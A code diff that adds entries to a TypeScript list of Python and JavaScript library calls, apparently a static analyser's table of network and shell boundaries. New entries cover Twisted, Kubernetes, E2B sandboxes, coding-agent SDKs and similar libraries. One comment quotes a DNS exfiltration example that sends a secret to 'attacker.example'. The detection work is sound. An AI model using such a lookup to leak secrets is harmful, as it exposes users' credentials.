@@ -450,6 +450,13 @@ const PLAYWRIGHT_LAUNCH = ["launch", "launchPersistentContext", "launchServer"];
 const PLAYWRIGHT_CONNECT = ["connect", "connectOverCDP"];
 /** An APIRequestContext's requests (`(await request.newContext()).get(url)`). */
 const PLAYWRIGHT_REQUESTS = ["fetch", "get", "post", "put", "patch", "delete", "head"];
+/** Twisted's client endpoints, each connecting to its address when asked (`TCP4ClientEndpoint(reactor, h, 80).connect(f)`). */
+const TWISTED_CLIENT_ENDPOINTS = ["TCP4ClientEndpoint", "TCP6ClientEndpoint", "HostnameEndpoint", "SSL4ClientEndpoint", "UNIXClientEndpoint"];
+/** The Kubernetes client's API classes of its stable groups (`CoreV1Api`, `AppsV1Api`, `CustomObjectsApi` …). */
+const KUBERNETES_APIS = [
+  ...["Admissionregistration", "Apiextensions", "Apiregistration", "Apps", "Authentication", "Authorization", "Autoscaling", "Batch", "Certificates", "Coordination", "Core", "Discovery", "Events", "Networking", "Node", "Policy", "RbacAuthorization", "Scheduling", "Storage"].map((g) => `${g}V1Api`),
+  "AutoscalingV2Api", "CustomObjectsApi", "VersionApi", "LogsApi",
+];
 /** requests' and httpx's module-level request functions. */
 const HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
 /** socket's name lookups, each a DNS query (`socket.gethostbyname(f"{secret}.attacker.example")`). */
@@ -627,6 +634,14 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   py("pynvim", call("attach"), "network"),
   py("pynvim.msgpack_rpc", call("tcp_session", "socket_session"), "network"),
   py("pynvim.msgpack_rpc", call("child_session"), "shell"),
+  // Ansible Runner: each run starts ansible (a playbook, a module, a command) as a child process.
+  py("ansible_runner", call("run", "run_async", "run_command", "run_command_async", "get_plugin_docs", "get_plugin_docs_async", "get_plugin_list", "get_inventory", "get_ansible_config", "get_role_list", "get_role_argspec"), "shell"),
+  // The Claude Agent SDK starts the Claude Code CLI, which runs commands and calls the model: a query, or a client (connected as it is used).
+  py("claude_agent_sdk", { ...call("query"), ...client("ClaudeSDKClient") }, "shell"),
+  // Twisted: its reactor's processes, the process helpers, and a process endpoint connected (which starts the program).
+  py("twisted.internet.reactor", call("spawnProcess"), "shell"),
+  py("twisted.internet.utils", call("getProcessOutput", "getProcessValue", "getProcessOutputAndValue"), "shell"),
+  py("twisted.internet.endpoints", call(`ProcessEndpoint${RETURNED}.connect`), "shell"),
   // Python — network
   py(
     "requests",
@@ -700,7 +715,7 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   py("dns.query", call("udp", "tcp", "tls", "https", "quic", "udp_with_fallback", "xfr", "inbound_xfr"), "network"),
   py("aiodns", client("DNSResolver"), "network"),
   py("pycares", client("Channel"), "network"),
-  py("websockets", call("connect", "client.connect", "sync.client.connect", "asyncio.client.connect"), "network"),
+  py("websockets", call(...["", "client.", "sync.client.", "asyncio.client.", "legacy.client."].flatMap((m) => [`${m}connect`, `${m}unix_connect`])), "network"),
   // pycurl: a Curl handle (or a multi handle driving several) is the client that performs the transfers.
   py("pycurl", client("Curl", "CurlMulti"), "network"),
   // paramiko: an SSH client connects (its construction is the one finding); a ProxyCommand runs a shell command.
@@ -746,6 +761,17 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   py("tweepy", client("Client", "API", "asynchronous.AsyncClient"), "network"),
   py("notion_client", client("Client", "AsyncClient"), "network"),
   py("stripe", { [ANY]: "call", ...client("StripeClient") }, "network"),
+  // E2B's sandboxes: made (or connected to), a remote machine the SDK runs commands and code on, each a request to it.
+  ...["e2b", "e2b_code_interpreter"].map((m) => py(m, client("Sandbox", ...["Sandbox", "AsyncSandbox"].flatMap((c) => [`${c}.create`, `${c}.connect`])), "network")),
+  // google-auth's authorized clients: a requests session, a urllib3 pool and a gRPC channel carrying the credentials
+  // (a transport `Request()` made is a value handed to a refresh, as httpx's transports are).
+  py("google.auth.transport.requests", client("AuthorizedSession"), "network"),
+  py("google.auth.transport.urllib3", client("AuthorizedHttp"), "network"),
+  py("google.auth.transport.grpc", client("secure_authorized_channel"), "network"),
+  // The Kubernetes client: an API object (each method a request to the cluster's API server: pods listed, created, exec'd
+  // into), the client under them, or one made from a kubeconfig; loading the configuration and the models are local.
+  ...["kubernetes.client", "kubernetes"].map((m) => py(m, client(...["ApiClient", ...KUBERNETES_APIS].map((c) => (m === "kubernetes" ? `client.${c}` : c))), "network")),
+  py("kubernetes.config", client("new_client_from_config", "new_client_from_config_dict"), "network"),
   // botocore, under boto3: a session's client for a service, as boto3's (`get_session().create_client("s3")`).
   py("botocore.session", client(...["get_session", "Session"].map((s) => `${s}${RETURNED}.create_client`)), "network"),
   // SAX's parse opens a string it is given with urlopen when no file has that name, and a parser with external general
@@ -761,6 +787,12 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   py("tornado.tcpclient", call(`TCPClient${RETURNED}.connect`), "network"),
   py("tornado.iostream", call(`IOStream${RETURNED}.connect`, `SSLIOStream${RETURNED}.connect`), "network"),
   py("tornado.websocket", call("websocket_connect"), "network"),
+  // Twisted's connections: the reactor's (and its name lookup), a client endpoint connected (made, it is an address), a
+  // ClientCreator's, and the web client's requests (scrapy downloads through them).
+  py("twisted.internet.reactor", call("connectTCP", "connectSSL", "connectUNIX", "connectUNIXDatagram", "resolve"), "network"),
+  py("twisted.internet.endpoints", call(...TWISTED_CLIENT_ENDPOINTS.map((e) => `${e}${RETURNED}.connect`), `clientFromString${RETURNED}.connect`, "connectProtocol"), "network"),
+  py("twisted.internet.protocol", call(...["connectTCP", "connectSSL", "connectUNIX"].map((m) => `ClientCreator${RETURNED}.${m}`)), "network"),
+  py("twisted.web.client", call("getPage", "downloadPage", ...["Agent", "Agent.usingEndpointFactory", "ProxyAgent"].map((a) => `${a}${RETURNED}.request`)), "network"),
   // httplib2's client requests (made, `Http()` holds a cache and credentials).
   py("httplib2", call(`Http${RETURNED}.request`), "network"),
   // httpcore, under httpx: its module-level requests, and its pools' and connections' (made, a pool opens nothing).
@@ -814,6 +846,9 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   js("tinyexec", call("x", "xSync", "exec", "execSync"), "shell"),
   js("@actions/exec", call("exec", "getExecOutput"), "shell"),
   js("node-pty", call("spawn", "fork", "createTerminal"), "shell"),
+  // Coding agents' SDKs start their CLI, which runs commands and calls the model: Codex's client (its threads' runs), Claude's query.
+  js("@openai/codex-sdk", client("Codex"), "shell", "new"),
+  js("@anthropic-ai/claude-agent-sdk", call("query", "startup", "prewarm"), "shell"),
   // An MCP client's stdio transport starts the server's command (when `client.connect(transport)` starts it): made, it is
   // the one finding for the session over it, as a client is. The SDK's modules by path, with or without `.js`, and its
   // split packages'; the OpenAI Agents SDK's MCP servers start theirs the same way.
@@ -863,6 +898,16 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   js("needle", { [ANY]: "call", ...inert("defaults") }, "network"),
   js("ky", { [ANY]: "call", ...client("create", "extend"), ...inert("HTTPError", "TimeoutError", "stop") }, "network"),
   js("ssh2", client("Client"), "network", "new"),
+  js("node-ssh", client("NodeSSH"), "network", "new"),
+  // E2B's sandboxes (see Python's).
+  ...["e2b", "@e2b/code-interpreter"].map((m) => js(m, client("Sandbox.create", "Sandbox.connect"), "network")),
+  // simple-get (isomorphic-git's requests) and cross-fetch (node-fetch's): the module called, or its method-named functions.
+  js("simple-get", { [ANY]: "call" }, "network"),
+  js("cross-fetch", { [ANY]: "call", ...inert("Headers", "Request", "Response") }, "network"),
+  // An OpenAPI client and Connect's RPC transports: made, each sends its calls to the base URL.
+  js("openapi-fetch", client(DEFAULT, "createClient", "createPathBasedClient"), "network"),
+  js("@connectrpc/connect-node", client("createConnectTransport", "createGrpcTransport", "createGrpcWebTransport"), "network"),
+  js("@connectrpc/connect-web", client("createConnectTransport", "createGrpcWebTransport"), "network"),
   js("undici", { ...call("request", "fetch", "stream", "connect"), ...client("Client", "Pool", "Agent") }, "network"),
   js("ws", call(DEFAULT, "WebSocket"), "network", "new"),
   // An MCP client's transports over HTTP and WebSocket connect to the server's URL (see the stdio transport above).
